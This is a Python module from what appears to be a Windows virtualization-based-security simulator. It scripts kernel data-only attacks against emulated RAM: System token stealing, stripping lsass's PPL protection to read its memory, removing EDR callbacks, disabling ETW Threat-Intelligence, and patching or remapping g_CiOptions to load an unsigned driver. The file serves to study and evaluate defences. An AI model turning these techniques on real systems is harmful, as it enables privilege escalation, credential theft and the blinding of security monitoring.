"""D1-D5: data-only attacks on NT's security state in VTL0 RAM (issue 10 part 3).

A K0 attacker (a kernel read/write primitive: a vulnerable signed driver, or code reuse over
signed code, which HVCI does not stop — vbs-internals §5.1, §6 A7) changes bytes NT later decides
from.  No code is written, so HVCI has nothing to refuse; only what KDP or HVPT protects is out of
reach, and Windows registers none of these structures with KDP except ci.dll's CiPolicy section.
Each goal is read from the machine afterwards (host side: RAM, the trace, the debugger's view of
what ran), never from what the attacker reports.

Addresses (PsActiveProcessHead, PspCreateProcessNotifyRoutine, EtwThreatIntProvRegHandle,
g_CiOptions, the EDR's image base) come from a host-side symbol lookup, as public symbols and
PsLoadedModuleList give them to a real attacker; the payloads then walk the structures in RAM
with plain loads and stores through NT's own page tables.

Expected outcomes, from the public record:
- D1-D4 succeed on every preset, hardened included: VBS and HVCI protect code and VTL1, not NT's
  data; KDP protects only what a driver registers (MS-KDP blog, 2020-07-08: "KDP ... protects
  ... a section of a driver's image" on request).  Token stealing and PPL stripping through a
  vulnerable driver: PPLKiller (RedCursor 2020), mimikatz ``!processprotect`` (mimidrv),
  "Bring Your Own Vulnerable Driver" reporting (e.g. ESET, "Exploiting vulnerable drivers",
  2022); callback removal and ETW-TI blinding: EDRSandblast (Wavestone, 2021), Lazarus FudModule
  (AhnLab / Avast 2022), "Terminator"/AuKill EDR killers (2023).  legacy-2019 has the same
  structures unprotected.
- D5 (g_CiOptions := 0): blocked wherever KDP protects CiPolicy — on 20H1+ whenever VBS runs
  (helz.dev 2025 "ci.dll unsigned driver loading"; Fortinet, "The Swan Song for Driver
  Signature Enforcement Tampering", 2022) — and succeeds without VBS (the classic DSE disable,
  vbs-internals §6 A3) and on legacy-2019 (a build before KDP).
"""

from __future__ import annotations

import functools
from typing import Any

from vbsim.attacks.catalogue.a03_a14_memory_code_dma import (
    host_lookup,
    needs_kdp,
    reads_as,
    remap_pte,
)
from vbsim.attacks.catalogue.a15_a20_boot_and_trustlets import runs
from vbsim.attacks.context import AttackContext, payload_routine
from vbsim.attacks.model import Capability, Outcome, Scenario
from vbsim.guest.address_space import DIRECT_MAP
from vbsim.hw.cpu import Cpu
from vbsim.hw.x86 import PAGE_SIZE, PTE_ADDR_MASK
from vbsim.image import ImageKind, build_image
from vbsim.nt import drivers, lsass, notify
from vbsim.nt.kernel import NtKernel
from vbsim.nt.layouts import (
    EPROCESS,
    ETW_BUFFER,
    ETW_GUID_ENTRY,
    ETW_REG_ENTRY,
    EX_CALLBACK_ROUTINE_BLOCK,
    EX_CALLBACK_SIZE,
    LIST_ENTRY,
    PSP_MAX_CREATE_PROCESS_NOTIFY,
    HostKernelView,
    HostReader,
    Protection,
    fast_ref_object,
)
from vbsim.nt.layouts import (
    KLDR_DATA_TABLE_ENTRY as KLDR,
)
from vbsim.nt.process import Process
from vbsim.nt.syscalls import syscall
from vbsim.ntstatus import NtStatus

S, B, N = Outcome.SUCCEEDED, Outcome.BLOCKED, Outcome.NOT_APPLICABLE
#: Data NT decides from and nobody registers with KDP: the write lands everywhere.
EVERYWHERE = {"vbs-off": S, "vbs": S, "vbs-hvci": S, "hardened": S, "legacy-2019": S}
NAME_AT, DATA_AT = 0, 512


def _nt(ctx: AttackContext) -> NtKernel:
    nt = ctx.booted.nt
    assert nt is not None
    return nt


def _host(ctx: AttackContext) -> HostReader:
    machine = ctx.booted.machine
    assert machine is not None
    return HostReader(machine.ram, DIRECT_MAP)


def _status(value: Any) -> str:
    return NtStatus.name_of(value) if isinstance(value, int) else str(value)


# -- K0 primitives: walks in RAM through NT's page tables -------------------------------------
def find_eprocess(vp: Cpu, head: int, pid: int) -> int:
    """Walk ActiveProcessLinks from PsActiveProcessHead for ``pid`` (as every token-stealing
    payload does); 0 if absent."""
    link = vp.read_u64(head + LIST_ENTRY.Flink.offset)
    for _ in range(4096):
        if link == head:
            return 0
        eprocess = link - EPROCESS.ActiveProcessLinks.offset
        if vp.read_u64(eprocess + EPROCESS.UniqueProcessId.offset) == pid:
            return eprocess
        link = vp.read_u64(link)
    return 0


# -- D1: token swap -----------------------------------------------------------------------------
def _steal_token(vp: Cpu, head: int, pid: int) -> int:
    """K0: copy System's (PID 4) EX_FAST_REF token pointer into our EPROCESS."""
    system = find_eprocess(vp, head, 4)
    mine = find_eprocess(vp, head, pid)
    if not system or not mine:
        return 0
    token: int = vp.read_u64(system + EPROCESS.Token.offset)
    vp.write_u64(mine + EPROCESS.Token.offset, token)
    return token


def _load_sample(vp: Cpu, buffer: int) -> int:
    """CPL3: NtLoadDriver needs SeLoadDriverPrivilege (a standard user lacks it)."""
    raw = drivers.SAMPLE_DRIVER.encode()
    vp.write(buffer + NAME_AT, raw)
    return syscall(vp, "NtLoadDriver", buffer + NAME_AT, len(raw))


def d1_steps(ctx: AttackContext) -> None:
    nt = _nt(ctx)
    process = ctx.process(admin=False, name="d1.exe")
    buffer = ctx.user_buffer(process)
    ctx.notes["process"] = process
    ctx.notes["before"] = _status(ctx.user(_load_sample, buffer, process=process))
    ctx.notes["token"] = ctx.kernel(_steal_token, nt.process_head, process.pid)
    ctx.notes["after"] = _status(ctx.user(_load_sample, buffer, process=process))


def d1_goal(ctx: AttackContext) -> bool:
    """The standard user's process now holds System's token in RAM, and NT let it load a driver
    (SeLoadDriverPrivilege, decided from that token) after refusing it before."""
    process = ctx.notes.get("process")
    if not isinstance(process, Process) or ctx.system is None or ctx.system.nt is None:
        return False
    system_token = ctx.view(ctx.system.process(4)).token
    machine = ctx.booted.machine
    return (
        ctx.view(process).token == system_token
        and ctx.notes.get("before") == "STATUS_PRIVILEGE_NOT_HELD"
        and machine is not None
        and drivers.SAMPLE_DRIVER in drivers.host_modules(machine.ram, ctx.system.nt)
    )


D1 = Scenario(
    id="D1",
    title="Token swap: copy the System process's token pointer into the attacker's EPROCESS",
    source="Windows Internals 7th ed. part 1 ch. 7 (tokens); token-stealing payloads "
    "(EPROCESS.Token EX_FAST_REF copy, Vergilius offsets); BYOVD literature",
    capability=Capability.K0,
    goal="a standard user's process passes SeLoadDriverPrivilege, decided from its token in RAM",
    expected=EVERYWHERE,
    expected_why="EPROCESS.Token is ordinary kernel pool data: no VBS feature protects it, and "
    "HVCI has no code to refuse (public token-stealing exploits work with HVCI on; MS-KDP: KDP "
    "protects only registered sections)",
    steps=d1_steps,
    goal_met=d1_goal,
)


# -- D2: PPL strip ------------------------------------------------------------------------------
def _strip_ppl(vp: Cpu, head: int, pid: int) -> int:
    """K0: zero the target's PS_PROTECTION byte (PPLKiller / mimidrv ``/remove``)."""
    target = find_eprocess(vp, head, pid)
    if target:
        vp.write(target + EPROCESS.Protection.offset, b"\0")
    return target


def _read_other(vp: Cpu, pid: int, address: int, length: int, buffer: int) -> int:
    return syscall(vp, "NtReadVirtualMemory", pid, address, buffer + DATA_AT, length)


def _user_bytes(ctx: AttackContext, process: Process, va: int, length: int) -> bytes:
    """``length`` bytes at ``va`` in ``process``, walked from the DirectoryTableBase its EPROCESS
    holds in RAM now (host side)."""
    machine = ctx.booted.machine
    assert machine is not None
    root = _host(ctx).field(process.eprocess, EPROCESS.DirectoryTableBase) & PTE_ADDR_MASK
    leaf = host_lookup(ctx, root, va)
    if leaf is None:
        return b""
    return machine.ram.read((leaf & PTE_ADDR_MASK) | (va & (PAGE_SIZE - 1)), length)


def d2_steps(ctx: AttackContext) -> None:
    nt = _nt(ctx)
    pid, va, length = lsass.credential_region(nt)
    lsass_process = ctx.booted.process(pid)
    # The defender enabled RunAsPPL: lsass runs as PsProtectedSignerLsa-Light (0x41).
    _host(ctx).set_field(lsass_process.eprocess, EPROCESS.Protection, Protection.PPL)
    admin = ctx.process(admin=True, name="d2.exe")
    buffer = ctx.user_buffer(admin)
    args = (pid, va, min(length, 256), buffer)
    ctx.notes["before"] = _status(ctx.user(_read_other, *args, process=admin))
    ctx.kernel(_strip_ppl, nt.process_head, pid)
    ctx.notes["after"] = _status(ctx.user(_read_other, *args, process=admin))
    ctx.notes["copy"] = (admin, buffer + DATA_AT, lsass_process, va, min(length, 256))


def d2_goal(ctx: AttackContext) -> bool:
    """The administrator's buffer holds lsass's bytes (and the read was refused while PPL)."""
    copy = ctx.notes.get("copy")
    if copy is None or ctx.notes.get("before") != "STATUS_ACCESS_DENIED":
        return False
    admin, at, target, va, length = copy
    theirs = _user_bytes(ctx, target, va, length)
    return bool(theirs.strip(b"\0")) and _user_bytes(ctx, admin, at, length) == theirs


D2 = Scenario(
    id="D2",
    title="PPL strip: clear lsass's PS_PROTECTION byte, then read its memory as administrator",
    source="Windows Internals 7th ed. part 1 ch. 3 (protected processes); PPLKiller "
    "(RedCursor 2020); mimikatz mimidrv !processprotect; BYOVD literature",
    capability=Capability.K0,
    goal="an administrator process opens and reads lsass's memory despite RunAsPPL",
    expected=EVERYWHERE,
    expected_why="the Protection byte lives in the EPROCESS in ordinary pool: VBS/HVCI do not "
    "protect it (Microsoft documents RunAsPPL as defeated by a kernel attacker; Credential Guard, "
    "not PPL, is what keeps secrets from one: A27 asks what the memory holds)",
    steps=d2_steps,
    goal_met=d2_goal,
)


# -- D3: EDR callback removal ----------------------------------------------------------------
def _remove_callbacks(vp: Cpu, array: int, start: int, end: int) -> int:
    """K0: zero every PspCreateProcessNotifyRoutine slot whose routine lies in [start, end)."""
    removed = 0
    for index in range(PSP_MAX_CREATE_PROCESS_NOTIFY):
        slot = array + index * EX_CALLBACK_SIZE
        value: int = vp.read_u64(slot)
        if not value:
            continue
        routine: int = vp.read_u64(
            fast_ref_object(value) + EX_CALLBACK_ROUTINE_BLOCK.Function.offset
        )
        if start <= routine < end:
            vp.write_u64(slot, 0)
            removed += 1
    return removed


def edr_log(ctx: AttackContext) -> list[int]:
    """The PIDs the EDR recorded, from its .data in RAM (host side)."""
    nt = _nt(ctx)
    machine = ctx.booted.machine
    if machine is None:
        return []
    driver = drivers.host_driver(machine.ram, nt, notify.EDR_DRIVER)
    if driver is None:
        return []
    _, data_rva = notify.edr_rvas()
    leaf = host_lookup(ctx, nt.space.root, driver.base + data_rva)
    if leaf is None:
        return []
    page = machine.ram.read(leaf & PTE_ADDR_MASK, PAGE_SIZE)
    count = min(int.from_bytes(page[:8], "little"), notify.EDR_LOG_MAX)
    return [int.from_bytes(page[8 + 8 * i : 16 + 8 * i], "little") for i in range(count)]


def find_module(vp: Cpu, head: int, name: str) -> tuple[int, int]:
    """K0: walk PsLoadedModuleList for ``name`` (what NtQuerySystemInformation's
    SystemModuleInformation reports to EDRSandblast): (DllBase, SizeOfImage)."""
    wanted = name.encode("utf-16-le")
    link: int = vp.read_u64(head)
    for _ in range(1024):
        if link == head:
            break
        length = int.from_bytes(vp.read(link + KLDR.BaseDllNameLength.offset, 2), "little")
        buffer: int = vp.read_u64(link + KLDR.BaseDllNameBuffer.offset)
        if vp.read(buffer, length) == wanted:
            base: int = vp.read_u64(link + KLDR.DllBase.offset)
            return base, vp.read_u32(link + KLDR.SizeOfImage.offset)
        link = vp.read_u64(link)
    return 0, 0


def _blind_edr(vp: Cpu, modules: int, array: int, name: str) -> int:
    base, size = find_module(vp, modules, name)
    return _remove_callbacks(vp, array, base, base + size) if base else 0


def d3_steps(ctx: AttackContext) -> None:
    nt = _nt(ctx)
    ctx.notes["seen_before"] = len(edr_log(ctx))
    array = nt.variable(notify.NOTIFY_ARRAY).va
    modules = drivers.module_list_head(nt)
    ctx.notes["removed"] = ctx.kernel(_blind_edr, modules, array, notify.EDR_DRIVER)
    ctx.notes["victim"] = ctx.process(admin=False, name="payload.exe").pid


def edr_registered(ctx: AttackContext) -> bool:
    """Some slot of PspCreateProcessNotifyRoutine (RAM, host side, through NT's tables) still
    names a routine inside the EDR driver's image."""
    nt = _nt(ctx)
    machine = ctx.booted.machine
    if machine is None:
        return False
    view = HostKernelView(machine.ram, nt.space.root)
    driver = drivers.host_driver(machine.ram, nt, notify.EDR_DRIVER)
    if driver is None:
        return False
    start, end = driver.base, driver.base + driver.pages * PAGE_SIZE
    array = nt.variable(notify.NOTIFY_ARRAY).va
    for index in range(PSP_MAX_CREATE_PROCESS_NOTIFY):
        value = view.read_u64(array + index * EX_CALLBACK_SIZE)
        if value:
            block = fast_ref_object(value) + EX_CALLBACK_ROUTINE_BLOCK.Function.offset
            if start <= view.read_u64(block) < end:
                return True
    return False


def d3_goal(ctx: AttackContext) -> bool:
    """A process was created after the removal, the EDR's log does not have it (while the EDR
    had logged the boot's processes: it was working), and the EDR's routine is no longer in
    the callback array: it was blinded by the removal, not by a full log (a fifth audit filled
    the log instead)."""
    victim = ctx.notes.get("victim")
    seen = ctx.notes.get("seen_before", 0)
    if not isinstance(victim, int) or not seen or victim in edr_log(ctx):
        return False
    return not edr_registered(ctx)


D3 = Scenario(
    id="D3",
    title="EDR blinding: remove the EDR's process-creation callback from the notify array",
    source="EDRSandblast (Wavestone 2021); Ciholas et al. 'Blinding EDR' ; Terminator / AuKill "
    "EDR killers (2023); WRK ps/psnotify.c (PspCreateProcessNotifyRoutine[64])",
    capability=Capability.K0,
    goal="the next process creation is not reported to the EDR",
    expected=EVERYWHERE,
    expected_why="the callback array is in ntoskrnl's .data, which no VBS feature protects "
    "(PatchGuard checks it only lazily, EDRSandblast documents restoring it before a check); "
    "KDP protects only sections a driver registers",
    steps=d3_steps,
    goal_met=d3_goal,
)


# -- D4: ETW Threat-Intelligence blinding ----------------------------------------------------
def _disable_provider(vp: Cpu, handle_va: int) -> int:
    """K0: EtwThreatIntProvRegHandle → GuidEntry → ProviderEnableInfo.IsEnabled := 0."""
    reg_entry: int = vp.read_u64(handle_va)
    guid_entry: int = vp.read_u64(reg_entry + ETW_REG_ENTRY.GuidEntry.offset)
    vp.write_u32(guid_entry + ETW_GUID_ENTRY.ProviderEnableInfo.offset, 0)
    return guid_entry


def etw_events(ctx: AttackContext) -> int:
    """How many Threat-Intelligence events the logger's buffer holds (host side)."""
    nt = _nt(ctx)
    machine = ctx.booted.machine
    assert machine is not None
    pointer = nt.variable(notify.ETW_TI_BUFFER)
    buffer = machine.ram.read_u64(pointer.gpa)
    return _host(ctx).field(buffer, ETW_BUFFER.Count)


#: What the victim keeps in its region (its own store, before the attack).
D4_MARKER = b"victim-secret-d4"
#: Where the second read lands in the administrator's buffer (the first lands at DATA_AT).
_D4_SECOND = 0x100


def _plant(vp: Cpu, va: int, data: bytes) -> int:
    """The victim writes its own memory (CPL3)."""
    vp.write(va, data)
    return 0


def d4_steps(ctx: AttackContext) -> None:
    nt = _nt(ctx)
    target = ctx.process(admin=False, name="victim.exe")
    region = ctx.user_buffer(target)
    ctx.user(_plant, region, D4_MARKER, process=target)
    admin = ctx.process(admin=True, name="d4.exe")
    buffer = ctx.user_buffer(admin)
    length = len(D4_MARKER)
    ctx.notes["control"] = _status(
        ctx.user(_read_other, target.pid, region, length, buffer, process=admin)
    )
    ctx.notes["events_before"] = etw_events(ctx)
    ctx.kernel(_disable_provider, nt.variable(notify.ETW_TI_HANDLE).va)
    second = buffer + _D4_SECOND
    ctx.notes["read"] = _status(
        ctx.user(_read_other, target.pid, region, length, second, process=admin)
    )
    ctx.notes["events_after"] = etw_events(ctx)
    ctx.notes["copy"] = (admin, second + DATA_AT)


def d4_goal(ctx: AttackContext) -> bool:
    """After the write, the administrator's buffer holds the victim's bytes (the cross-process
    read happened: RAM, host side) and the logger's buffer in RAM gained no event for it,
    while it had logged before (the provider was logging)."""
    copy = ctx.notes.get("copy")
    before = ctx.notes.get("events_before", 0)
    if copy is None or not isinstance(before, int) or before <= 0:
        return False
    admin, at = copy
    return _user_bytes(ctx, admin, at, len(D4_MARKER)) == D4_MARKER and etw_events(ctx) == before


D4 = Scenario(
    id="D4",
    title="ETW blinding: clear the Threat-Intelligence provider's IsEnabled flag",
    source="EDRSandblast ETW-TI disabling (Wavestone 2021); Lazarus FudModule (AhnLab/Avast "
    "2022); Vergilius _ETW_REG_ENTRY/_ETW_GUID_ENTRY",
    capability=Capability.K0,
    goal="the next cross-process memory read is not logged",
    expected=EVERYWHERE,
    expected_why="the provider's enable information is in kernel pool; VBS, HVCI and KDP do not "
    "protect it (FudModule disabled ETW-TI on HVCI-enabled machines, Avast 2022)",
    steps=d4_steps,
    goal_met=d4_goal,
)


# -- D5: g_CiOptions patch ----------------------------------------------------------------------
UNSIGNED = "d5_rootkit.sys"


def _d5_entry(vp: Cpu, driver_object: int) -> int:
    return int(NtStatus.SUCCESS)


D5_ENTRY = payload_routine(_d5_entry, breakpoint=True)


@functools.lru_cache(maxsize=1)
def unsigned_image() -> bytes:
    return build_image(ImageKind.DRIVER, UNSIGNED, "DriverEntry", {"DriverEntry": D5_ENTRY})


def _patch_ci(vp: Cpu, ci_options: int) -> int:
    """K0: g_CiOptions := 0 (DSE off)."""
    vp.write_u64(ci_options, 0)
    return 0


def _load_unsigned(vp: Cpu, buffer: int) -> int:
    raw = UNSIGNED.encode()
    vp.write(buffer + NAME_AT, raw)
    return syscall(vp, "NtLoadDriver", buffer + NAME_AT, len(raw))


def _ci_options_gpa(ctx: AttackContext) -> int | None:
    """Where g_CiOptions lives: the GPA NT's tables map its VA to before the attack (host side;
    what KDP protects is this page, not the VA)."""
    nt = _nt(ctx)
    va = drivers.ci_options_va(nt)
    leaf = host_lookup(ctx, nt.space.root, va)
    return None if leaf is None else (leaf & PTE_ADDR_MASK) | (va & (PAGE_SIZE - 1))


def _load_step(ctx: AttackContext) -> None:
    admin = ctx.process(admin=True, name="d5.exe")
    buffer = ctx.user_buffer(admin)
    ctx.notes["load"] = _status(ctx.user(_load_unsigned, buffer, process=admin))


def d5_steps(ctx: AttackContext) -> None:
    nt = _nt(ctx)
    nt.driver_store[UNSIGNED] = unsigned_image()  # the administrator copies the file
    ctx.notes["ci_options"] = drivers.ci_options_va(nt)
    ctx.notes["ci_gpa"] = _ci_options_gpa(ctx)
    ctx.kernel(_patch_ci, drivers.ci_options_va(nt))
    _load_step(ctx)


def d5_goal(ctx: AttackContext) -> bool:
    """g_CiOptions itself (its page in RAM) holds 0 and the unsigned driver's entry ran at VTL0
    CPL0.  The variable's own page, not whatever its VA reads: a remap of the VA leaves the
    protected page as it was, and is D5-REMAP's row (a fifth audit met the VA-based goal that
    way on vbs)."""
    gpa = ctx.notes.get("ci_gpa")
    machine = ctx.system.machine if ctx.system else None
    if not isinstance(gpa, int) or machine is None or not ctx.system or not ctx.system.booted:
        return False
    return machine.ram.read(gpa, 8) == bytes(8) and (0, 0) in runs(ctx, D5_ENTRY)


def _remap_ci(cpu: Cpu, ci_options: int, own_va: int, own_gpa: int) -> int:
    """K0: a copy of the CiPolicy page in the attacker's pool page, with g_CiOptions = 0, and
    NT's PTE for the page pointed at the copy (NT's tables are VTL0 memory: A5's remap)."""
    page = ci_options & ~(PAGE_SIZE - 1)
    cpu.write(own_va, cpu.read(page, PAGE_SIZE))
    cpu.write_u64(own_va + (ci_options & (PAGE_SIZE - 1)), 0)
    return 0 if remap_pte(cpu, page, own_gpa) is None else 1


def d5_remap_steps(ctx: AttackContext) -> None:
    nt = _nt(ctx)
    nt.driver_store[UNSIGNED] = unsigned_image()
    ctx.notes["ci_options"] = drivers.ci_options_va(nt)
    own_va, own_gpa = ctx.kernel_page()
    ctx.notes["remapped"] = ctx.kernel(_remap_ci, drivers.ci_options_va(nt), own_va, own_gpa)
    if ctx.bugchecked:
        return
    _load_step(ctx)


def d5_remap_goal(ctx: AttackContext) -> bool:
    """What NT's code-integrity check reads at g_CiOptions' VA (any VTL0 ring-0 reader's
    translation, HLAT's where HVPT pins it) is 0, and the unsigned driver's entry ran."""
    va = ctx.notes.get("ci_options")
    if not isinstance(va, int) or ctx.system is None or not ctx.system.booted:
        return False
    return reads_as(ctx, va) == bytes(8) and (0, 0) in runs(ctx, D5_ENTRY)


D5 = Scenario(
    id="D5",
    title="g_CiOptions patch: turn off code integrity with a kernel write, load an unsigned driver",
    source="Fortinet, 'The Swan Song for Driver Signature Enforcement Tampering' (2022); "
    "helz.dev 'ci.dll unsigned driver loading' (2025); vbs-internals §5.2 (KDP), §6 A3",
    capability=Capability.K0,
    goal="g_CiOptions reads 0 and an unsigned driver's DriverEntry runs at VTL0 CPL0",
    expected={"vbs-off": S, "vbs": B, "vbs-hvci": B, "hardened": B, "legacy-2019": S},
    expected_why="CI makes its CiPolicy section KDP read-only: on 20H1+ with VBS — HVCI or not, "
    "KDP needs VBS only (MS Learn MmProtectDriverSection; MS-KDP 2020) — the write is an EPT "
    "violation (the public record: g_CiOptions tampering fails under VBS, which is why 2022-24 "
    "bypasses moved to SeCiCallbacks and other unprotected CI globals, as A3 does). Without VBS "
    "(vbs-off) and before 20H1 (legacy-2019, no KDP) it is the classic DSE disable and works.",
    steps=d5_steps,
    goal_met=d5_goal,
)

D5_REMAP = Scenario(
    id="D5-REMAP",
    title="g_CiOptions by remapping: point its page's VA at a copy that says 0, load an "
    "unsigned driver",
    source="MS-HVPT 2025 (Windows OS Platform Blog, 'Understanding HVPT': KDP protects "
    "guest-physical pages, so remapping their VA is the attack HVPT stops); Fortinet 2022; "
    "vbs-internals §5.2 (KDP), §5.6 (HVPT/HLAT)",
    capability=Capability.K0,
    goal="g_CiOptions reads 0 through its VA (NT's own code-integrity check) and an unsigned "
    "driver's DriverEntry runs at VTL0 CPL0",
    expected={"vbs-off": N, "vbs": S, "vbs-hvci": B, "hardened": B, "legacy-2019": N},
    expected_why="KDP makes CI's page read-only in SLAT, but NT's page tables stay VTL0-writable "
    "(A5): with the PTE on a copy, NT's own DSE reads 0 and loads the driver on vbs. Under HVCI "
    "(vbs-hvci, hardened) the Secure Kernel's SKCI checks the image in VTL1 whatever NT's "
    "g_CiOptions says, so the unsigned image is refused; on hardened HVPT also pins the "
    "translation (HLAT), so NT still reads the real value. Without KDP (vbs-off, legacy-2019) "
    "there is nothing to remap around: D5's plain write works there. The record names the "
    "class (MS-HVPT 2025); the per-preset outcome is the model's reading of it, not a record "
    "match.",
    steps=d5_remap_steps,
    goal_met=d5_remap_goal,
    applicable=needs_kdp,
)

SCENARIOS = [D1, D2, D3, D4, D5, D5_REMAP]
